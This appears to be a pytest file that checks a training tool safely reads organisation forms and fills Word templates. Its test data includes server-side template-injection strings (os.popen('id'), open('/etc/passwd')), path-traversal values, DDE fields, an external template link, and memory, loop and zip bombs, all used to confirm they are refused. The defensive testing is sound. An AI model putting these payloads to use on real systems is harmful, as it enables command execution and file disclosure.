"""An organisation's form: read or refused with a reason, in every format, and its Word form can do no harm."""

import io
import json
import re
import subprocess
import sys
import zipfile
import zlib
from collections import Counter
from pathlib import Path
from xml.etree.ElementTree import fromstring

import pytest
from docx import Document

from hrtrainer.export.form import SECTIONS, WORDINGS
from hrtrainer.export.formats import FORMATS
from hrtrainer.export.zipped import parts_of
from hrtrainer.forming import making
from hrtrainer.forming.making import fill, made
from hrtrainer.forming.picture import bare_png
from hrtrainer.forming.reading import read_form
from hrtrainer.problem import Problem
from tests.export import sample
from tests.export.opening import unpacked, words_of
from tests.export.rendering import records_of
from tests.export.test_hostile import PAYLOADS
from tests.stage import ASSETS

EXAMPLE = ASSETS / "guide" / "form-example" / "our-form.json"
FONTS = ASSETS / "fonts"


def word_form(*paragraphs: str) -> bytes:
    """A Word form of these paragraphs."""
    form = Document()
    for text in paragraphs:
        form.add_paragraph(text)
    file = io.BytesIO()
    form.save(file)
    return file.getvalue()


def filled(*paragraphs: str) -> str:
    """What a Word form of these paragraphs says once it is filled."""
    data = fill(word_form(*paragraphs), sample.full(), read_form(EXAMPLE), FONTS)
    return "\n".join(one.text for one in Document(io.BytesIO(data)).paragraphs)


def refused(*paragraphs: str) -> Problem:
    with pytest.raises(Problem) as caught:
        filled(*paragraphs)
    return caught.value


def changed(tmp_path: Path, **keys: object) -> Path:
    """The example form with some of its keys changed, beside its files."""
    for name in ("logo.png", "our-form.docx"):
        (tmp_path / name).write_bytes(EXAMPLE.with_name(name).read_bytes())
    path = tmp_path / "form.json"
    path.write_text(json.dumps(json.loads(EXAMPLE.read_text(encoding="utf-8")) | keys), encoding="utf-8")
    return path


# Reading one


def test_the_example_of_the_guide_is_read() -> None:
    form = read_form(EXAMPLE)
    assert form.header == "Harbour Outreach" and form.say().talk == "What I bring today"
    assert form.sections[:2] == ("talk", "learning") and form.logo.startswith(b"\x89PNG") and form.word


@pytest.mark.parametrize(
    ("keys", "said"),
    [
        ({"format": "other"}, 'does not say "format"'),
        ({"colour": "red"}, "it has 'colour', which is none of"),
        ({"header": 3}, "'header' wants a text"),
        ({"header": "x" * 301}, "'header' wants a text"),
        ({"sections": ["talk", "marks"]}, "there is no section 'marks'"),
        ({"sections": ["talk", "talk"]}, "every section can be named once"),
        ({"sections": []}, "at least one"),
        ({"sections": "talk"}, "wants a list"),
        ({"wording": {"page_of": "x"}}, "'page_of', which is not worded anywhere"),
        ({"wording": ["x"]}, "'wording' wants names"),
        ({"questions": ["x"] * 13}, "at most 12"),
        ({"logo": "../logo.png"}, "without a folder"),
        ({"logo": "/etc/passwd"}, "without a folder"),
        ({"logo": "C:logo.png"}, "without a folder"),
        ({"word": "..\\our-form.docx"}, "without a folder"),
        ({"logo": "our-form.docx"}, "no PNG picture"),
        ({"logo": "gone.png"}, "no such file"),
    ],
)
def test_what_is_the_matter_with_a_form_is_said(tmp_path: Path, keys: dict[str, object], said: str) -> None:
    with pytest.raises(Problem) as caught:
        read_form(changed(tmp_path, **keys))
    assert caught.value.code == "E12" and said in caught.value.message
    assert str(tmp_path) not in caught.value.message


def test_the_guide_names_every_section_and_every_wording() -> None:
    guide = (ASSETS / "guide" / "forms.md").read_text(encoding="utf-8")
    assert [name for name in (*SECTIONS, *sorted(WORDINGS)) if f"`{name}`" not in guide] == []


def test_no_json_and_no_file(tmp_path: Path) -> None:
    (tmp_path / "form.json").write_text("{", encoding="utf-8")
    for name in ("form.json", "gone.json"):
        with pytest.raises(Problem) as caught:
            read_form(tmp_path / name)
        assert caught.value.code == "E12"


@pytest.mark.parametrize("form", FORMATS)
def test_heads_every_format(form: str, tmp_path: Path) -> None:
    if form == "pdf":
        pytest.importorskip("typst", reason="typst does not exist for this computer")
    house = read_form(changed(tmp_path, word=""))
    pack = sample.full()
    text = words_of(made(pack, form, FONTS, house=house, records=records_of(pack)), tmp_path)
    if text and form not in ("csv", "json", "xapi"):  # data has no words of its own
        assert "Harbour Outreach" in text and "What I bring today" in text


@pytest.mark.parametrize(
    "payload", [PAYLOADS[-2], *(" ".join(PAYLOADS[at : at + 4]) for at in range(0, len(PAYLOADS), 4))]
)
@pytest.mark.parametrize("form", FORMATS)
def test_hostile_words_of_a_form_are_inert(form: str, payload: str, tmp_path: Path) -> None:
    if form == "pdf":
        pytest.importorskip("typst", reason="typst does not exist for this computer")
    pack, found = sample.full(), []
    for text in (payload.encode("utf-8", "replace").decode(), "calm"):
        wording = dict.fromkeys(sorted(WORDINGS), text)
        house = read_form(changed(tmp_path, word="", name=text, header=text, wording=wording, questions=[text]))
        found.append(made(pack, form, FONTS, house=house, records=records_of(pack)))
    hostile, calm = found
    assert b"root:x:0" not in unpacked(hostile) and b"49 {%" not in unpacked(hostile)
    if form == "html":
        assert hostile.count(b"<") == calm.count(b"<")
    if form in ("docx", "odt"):
        tags = [
            Counter(
                one.tag for name, part in parts_of(file) if name.endswith(".xml") for one in fromstring(part).iter()
            )
            for file in found
        ]
        assert tags[0] == tags[1]
    if form == "md":
        assert b"<script" not in hostile and b"](" not in hostile
    if form in ("csv", "json"):
        assert hostile == calm


def test_a_logo_keeps_its_picture_and_loses_everything_else() -> None:
    logo = EXAMPLE.with_name("logo.png").read_bytes()
    size = (9).to_bytes(4, "big")
    remark = b"tEXt" + b"GPS\0Mill1"
    told = logo[:33] + size + remark + zlib.crc32(remark).to_bytes(4, "big") + logo[33:]
    assert b"Mill" in told and bare_png(told) == logo
    assert bare_png(logo[:-1]) == b"" and bare_png(b"GIF89a") == b"" and bare_png(logo.replace(b"IDAT", b"IDAX")) == b""


# Filling a Word form


def test_the_example_is_filled() -> None:
    data = made(sample.full(), "docx", FONTS, house=read_form(EXAMPLE))
    document = Document(io.BytesIO(data))
    text = "\n".join(one.text for one in document.paragraphs)
    assert "How to say the overdose part" in text and "{" not in text
    assert "Honest about danger" in [cell.text for row in document.tables[0].rows for cell in row.cells]
    assert data == made(sample.full(), "docx", FONTS, house=read_form(EXAMPLE))


def test_a_struck_line_is_not_in_it_either() -> None:
    struck = sample.typical().turns[3].said
    every = word_form("{{ sessions }} {{ blocks }} {{ pack }} {{ say }} {{ form }}")
    data = fill(every, sample.full(), read_form(EXAMPLE), FONTS)
    assert struck.encode() not in unpacked(data) and b"Can I add one thing" in unpacked(data)


def test_a_wrong_field_is_told_with_its_paragraph() -> None:
    problem = refused("Name", "{{ pack.real_name }}")
    assert problem.code == "E11" and "{{ pack.real_name }}" in problem.message and "paragraph 2" in problem.message
    assert "real_name" in problem.message


def test_a_slip_in_its_syntax_is_told_with_its_paragraph() -> None:
    problem = refused("Fine", "{% for x in %}", "{% endfor %}")
    assert problem.code == "E11" and "paragraph 2" in problem.message


def test_text_of_others_stays_text_in_it() -> None:
    told = sample.pack(sample.filled_with(sample.typical(), "{{ 7*7 }}<w:p/>&amp;{% raw %}"))
    data = fill(word_form("{{ sessions[0].title }}"), told, read_form(EXAMPLE), FONTS)
    assert "{{ 7*7 }}<w:p/>&amp;{% raw %}" in Document(io.BytesIO(data)).paragraphs[0].text


def test_drawings_stand_where_a_form_names_them() -> None:
    pytest.importorskip("typst", reason="typst does not exist for this computer")
    form = Document()
    form.sections[0].header.paragraphs[0].text = "{{ sessions[0].charts.path }}"
    for text in ("{{ sessions[0].charts.principles }} beside {{ sessions[0].charts.principles }}",
                 "{% if sessions[1].charts.board %}never{% endif %}[{{ sessions[1].charts.board }}]"):  # fmt: skip
        form.add_paragraph(text)
    file = io.BytesIO()
    form.save(file)
    data = fill(file.getvalue(), sample.full(), read_form(EXAMPLE), FONTS)
    found = Document(io.BytesIO(data))
    assert len(found.inline_shapes) == 2 and [one.text for one in found.paragraphs] == [" beside ", "[]"]
    assert found.inline_shapes[0].width <= found.sections[0].page_width
    for part in (found.part, found.sections[0].header.part):
        ids = re.findall(r'r:embed="(rId\d+)"', part.blob.decode())
        assert ids and all(part.rels[id].target_part.blob for id in ids)


@pytest.mark.parametrize(
    "hostile",
    [
        "{{ sessions[0].charts.path._form }}",
        "{{ sessions[0].charts.path.__html__.__globals__ }}",
        "{{ sessions[0].charts.path.__class__ }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ self.__init__.__globals__ }}",
        "{% include '/etc/passwd' %}",
        "{% import '/etc/passwd' as x %}",
        "{% extends 'x' %}",
        "{{ lipsum.__globals__['os'].getcwd() }}",
        "{{ open('/etc/passwd').read() }}",
        "{{ pack.__class__ }}{{ pack|attr('__class__') }}",
        "{{ '%s'.format.__globals__ }}",
        "{{ sessions.append(1) }}",
        "{{ pack.clear() }}",
    ],
)
def test_a_form_cannot_reach_outside(hostile: str) -> None:
    with pytest.raises(Problem) as caught:
        text = filled(hostile)
        assert "root:" not in text and "uid=" not in text and "class" not in text
        raise Problem("E11", "said nothing", "")
    assert caught.value.code in ("E11", "E13")


def test_it_cannot_use_up_the_processor(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(making, "_SECONDS", 5)
    loop = "{% for a in range(99999) %}" * 3 + "{% endfor %}" * 3
    assert refused(loop).code == "E13"


@pytest.mark.parametrize("greedy", ["{{ 'a' * 9999999999 }}", "{{ 'a'.ljust(9999999999) }}", "{{ 9 ** (9 ** 9) }}"])
def test_it_cannot_use_up_the_memory(greedy: str) -> None:
    pytest.importorskip("resource", reason="this system sets no such limits")
    assert refused(greedy).code in ("E11", "E13")


def test_it_cannot_make_a_file_that_is_small_packed_and_large_unpacked() -> None:
    problem = refused("{%p for one in range(40) %}", "{{ 'a' * 600000 }}", "{%p endfor %}")
    assert problem.code == "E13" and "larger than 20 MB" in problem.message


def test_it_cannot_read_write_or_start_anything_even_from_inside_the_process(tmp_path: Path) -> None:
    """What the sandbox holds back, the limits of the process hold back once more."""
    pytest.importorskip("resource", reason="this system sets no such limits")
    tried = ""
    for deed in (f"open({str(FONTS.parent / 'principles.json')!r})", f"open({str(tmp_path / 'x')!r}, 'w')",
                 "subprocess.run(['true'])", "bytearray(1 << 30)"):  # fmt: skip
        tried += f"try:\n    {deed}\nexcept (OSError, MemoryError):\n    pass\nelse:\n    sys.exit(3)\n"
    start = f"import subprocess, sys; sys.path[:] = {sys.path!r}\nfrom hrtrainer.forming.child import limit\n"
    start += f"limit()\n{tried}"
    done = subprocess.run([sys.executable, "-I", "-c", start], capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stderr) == (0, "")


def zipped(form: bytes, **added: bytes) -> bytes:
    """A Word form with parts replaced or added; `word__x` stands for word/x."""
    names = {name.replace("__", "/").replace("_DOT_", "."): data for name, data in added.items()}
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(form)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in names:
                new.writestr(name, old.read(name))
        for name, data in names.items():
            new.writestr(name, data)
    return file.getvalue()


LINK = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>'
)
FIELD = b'<w:p><w:r><w:instrText> DDEAUTO c:\\\\x "a" </w:instrText></w:r></w:p>'


@pytest.mark.parametrize(
    ("bad", "said"),
    [
        (b"no zip", "not a Word file"),
        (zipped(word_form("x"), word__vbaProject_DOT_bin=b"x"), "macro or another file"),
        (zipped(word_form("x"), word___rels__document_DOT_xml_DOT_rels=LINK), "fetches something"),
        (zipped(word_form("x"), word__more_DOT_xml=FIELD), "runs or fetches"),
        (zipped(word_form("x"), word__more_DOT_xml=b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"), "entities"),
        (zipped(word_form("x"), word__more_DOT_xml=b"\0" * 30_000_000), "larger inside"),
    ],
    ids=["no zip", "macro", "outside", "field", "entities", "bomb"],
)
def test_what_no_form_needs_is_refused_before_it_is_opened(bad: bytes, said: str) -> None:
    with pytest.raises(Problem) as caught:
        fill(bad, sample.full(), read_form(EXAMPLE), FONTS)
    assert caught.value.code == "E10" and said in caught.value.message
